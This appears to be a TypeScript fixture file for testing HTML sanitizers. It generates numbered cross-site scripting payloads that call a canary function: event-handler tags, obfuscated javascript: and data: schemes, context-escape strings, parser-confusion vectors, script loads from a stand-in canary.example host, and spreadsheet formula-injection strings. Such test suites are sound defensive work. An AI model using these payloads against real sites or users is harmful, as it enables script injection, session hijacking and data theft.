// Hostile texts: each calls `__xss(n)`, n being its number, if a browser takes it for code.

/** Elements that run something by themselves, or when touched; whole, so that they can stand one after the other. */
const elements = [
  '<script>@</script>', '<script src="data:text/javascript,@"></script>', '<script src=//canary.example/x.js></script>', '<SCRIPT>@</SCRIPT>', '<script\n>@</script\n>',
  '<script/x>@</script>', '<script type=module>@</script>', '<script type="text/javascript">@</script>', '<svg><script>@</script></svg>', '<svg><script href="data:,@"></script></svg>',
  '<svg><script xlink:href="data:,@"></script></svg>', '<math><script>@</script></math>', '<img src=x onerror=@>', '<img/src=x/onerror=@>', '<IMG SRC=x ONERROR=@>',
  '<img src=x onerror="@">', "<img src=x onerror='@'>", '<img src=x onerror=`@`>', '<img src=x:x onerror=@>', '<img src onerror=@>', '<img srcset=x onerror=@>', '<img src=x onerror\t=@>',
  '<img src=x onerror\n=\n@>', '<img src=x onerror=&#95;&#95;xss(#)>', '<img src=x onerror="eval(\'@\')">', '<img src=x onerror="top[\'__xss\'](#)">', '<img src=x onerror=window.@>',
  '<img src=/favicon.svg onload=@>', '<image src=x onerror=@>', '<image href=x onerror=@>', '<picture><source srcset=x><img src=x onerror=@></picture>', '<svg onload=@></svg>', '<svg/onload=@></svg>',
  '<svg onload="@"><circle r=9 /></svg>', '<svg><animate onbegin=@ attributeName=x dur=1s></svg>', '<svg><animate onend=@ attributeName=x dur=1ms></svg>', '<svg><set onbegin=@ attributeName=x to=1></svg>',
  '<svg><animateTransform onbegin=@ attributeName=transform dur=1s></svg>', '<svg><image href=x onerror=@ /></svg>', '<svg><foreignObject><img src=x onerror=@></foreignObject></svg>',
  '<svg><desc><img src=x onerror=@></desc></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=@></svg>#x" /></svg>',
  '<svg><a href="javascript:@"><animate attributeName=href values=javascript:@ /><text>go</text></a></svg>', '<svg><style>{background:url(javascript:@)}</style></svg>', '<body onload=@>', '<body onpageshow=@>', '<html onfocus=@>',
  '<frameset onload=@></frameset>', '<video><source onerror=@></video>', '<video src=x onerror=@></video>', '<video poster=javascript:@></video>', '<audio src=x onerror=@></audio>', '<audio autoplay src=x onerror=@></audio>',
  '<object data=x onerror=@></object>', '<embed src=x onload=@>', '<input autofocus onfocus=@>', '<input type=image src=x onerror=@>', '<select autofocus onfocus=@></select>', '<button autofocus onfocus=@>go</button>',
  '<details open ontoggle=@><summary>go</summary></details>', '<dialog open onclose=@><form method=dialog><button>go</button></form></dialog>', '<marquee onstart=@>go</marquee>', '<meter onclick=@>go</meter>',
  '<p onpointerover=@ style="position:fixed;inset:0">go</p>', '<p tabindex=1 onfocus=@ id=x>go</p>', '<p contenteditable onfocus=@ autofocus>go</p>', '<div onclick=@>go</div>', '<xss onclick=@ tabindex=1>go</xss>',
  '<xss style="animation:pulse 1s" onanimationstart=@>go</xss>', '<xss style="transition:color 1s" ontransitionend=@>go</xss>', '<p style="background:url(javascript:@)">go</p>', '<p style="width:expression(@)">go</p>',
  '<style>@import "data:text/css,*{}"</style><p onanimationstart=@>go</p>', '<table background=javascript:@><tr><td>go</td></tr></table>', '<table><tr><td><img src=x onerror=@></td></tr></table>',
  '<figure><img src=x onerror=@><figcaption onclick=@>go</figcaption></figure>', '<ul><li onclick=@><img src=x onerror=@></li></ul>', '<blockquote cite="javascript:@" onclick=@>go</blockquote>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>', '<iframe src="/contact" onload=@></iframe>', '<iframe onload=@></iframe>',
  '<iframe src="https://www.youtube.com@canary.example/" onload=@></iframe>', '<iframe src="//www.youtube-nocookie.com.canary.example/embed/x" onload=@></iframe>',
  '<template><img src=x onerror=@></template>', '<slot onslotchange=@></slot>', '<keygen autofocus onfocus=@>', '<applet onerror=@></applet>', '<bgsound onpropertychange=@>', '<link rel=stylesheet href=x onerror=@>',
  '<link rel=import href="data:text/html,<script>@</script>">', '<meta http-equiv=refresh content="0;url=javascript:@">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>opener.@</script>">',
  '<base href="javascript:@//">', '<base href="https://canary.example/">', '<isindex action=javascript:@ type=image>', '<scr<script>ipt>@</scr</script>ipt>', '<<script>@//<</script>', '<img """><script>@</script>">',
  '<div data-x="&lt;img src=x onerror=@&gt;">go</div>', '<div is=x-y onclick=@>go</div>', '<a onmouseover=@>go</a>', '<a href=# onclick=@>go</a>', '<a href="#" onfocus=@ autofocus>go</a>',
]

/** Ways to write a scheme that runs, and what would follow it. */
const schemes = [
  'javascript:@', 'JaVaScRiPt:@', ' javascript:@', '\tjavascript:@', 'java\tscript:@', 'java\nscript:@', 'java&#10;script:@', 'java&Tab;script:@', 'javascript&colon;@', '&#106;avascript:@', '&#x6a;&#x61;vascript:@',
  'javascript://%0a@', 'javascript://a.example/%0a@', 'vbscript:@', 'data:text/html,<script>opener.@</script>', 'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3MoMCk8L3NjcmlwdD4=', 'blob:javascript:@', 'feed:javascript:@', 'view-source:javascript:@',
]
const carriers: ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`, (address) => `<iframe src="${address}"></iframe>`, (address) => `<svg><a xlink:href="${address}"><text>go</text></a></svg>`,
  (address) => `<form action="${address}"><button formaction="${address}">go</button></form>`,
]

/** Ways out of the place that a text was put in: an attribute, a title, a script of data, a comment, a template. */
const escapes = [
  '"><script>@</script>', "'><script>@</script>", '"><img src=x onerror=@>', '" onmouseover="@', "' onmouseover='@", '" autofocus onfocus="@', '</title><script>@</script>', '</textarea><script>@</script>',
  '</style><script>@</script>', '</script><script>@</script>', '</script ><img src=x onerror=@>', '</SCRIPT><svg/onload=@>', '"}</script><script>@</script>', '"};@;//', "';@;//", '`;@;//', '${@}', '{{@}}', "{{constructor.constructor('@')()}}",
  '<!--</script><script>@</script>-->', '<!--<script>', '--><script>@</script>', '--!><img src=x onerror=@>', ']]><script>@</script>', '<![CDATA[<script>@</script>]]>', '<?xml version="1.0"?><script>@</script>',
  '\\"><script>@</script>', '\\u003cscript\\u003e@\\u003c/script\\u003e', '&lt;script&gt;@&lt;/script&gt;', '&#60;script&#62;@&#60;/script&#62;', '%3Cscript%3E@%3C/script%3E', '\uff1cscript\uff1e@\uff1c/script\uff1e',
  '\u2028@\u2029', '<\u200bscript>@</script>', '=@', '=HYPERLINK("javascript:@")', '@SUM(1)|cmd', '</noscript><script>@</script>', '</template><script>@</script>', '</div></main></body></html><script>@</script>',
]

/** These swallow what follows them. */
const greedy = [
  '<math><mtext><table><mglyph><style><img src=x onerror=@>', '<noscript><p title="</noscript><img src=x onerror=@>">', '<svg></p><style><a id="</style><img src=x onerror=@>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=@></style></annotation-xml>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>', '<!--><img src=x onerror=@>-->',
  '<textarea><p title="</textarea><img src=x onerror=@>">', '<title><p title="</title><img src=x onerror=@>">', '<style><p title="</style><img src=x onerror=@>">', '<xmp><p title="</xmp><img src=x onerror=@>">',
  '<iframe><p title="</iframe><img src=x onerror=@>">', '<noembed><p title="</noembed><img src=x onerror=@>">', '<script><p title="</script><img src=x onerror=@>">', '<svg><title><style><img src=x onerror=@>',
  '<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">', '<svg><p><style><g title="</style><img src=x onerror=@>">', '<select><template><style></select><img src=x onerror=@>', '<plaintext><img src=x onerror=@>',
  '<a title="<!--" href="javascript:@">go', '<img src=x onerror=@ ', '<svg onload=@//', '<table><caption><svg><desc><table><caption><style><img src=x onerror=@>',
]

const numbered = (texts: readonly string[], from: number) => texts.map((text, index) => text.replaceAll('@', `__xss(${from + index})`).replaceAll('#)', `${from + index})`))

/** Texts that end where they end, and those that take along what comes after them. */
const ending = [...elements, ...carriers.flatMap((carry) => schemes.map(carry)), ...escapes]
export const payloads = { ending: numbered(ending, 0), greedy: numbered(greedy, ending.length), addresses: numbered(schemes, 1000) }
export const allPayloads = [...payloads.ending, ...payloads.greedy]
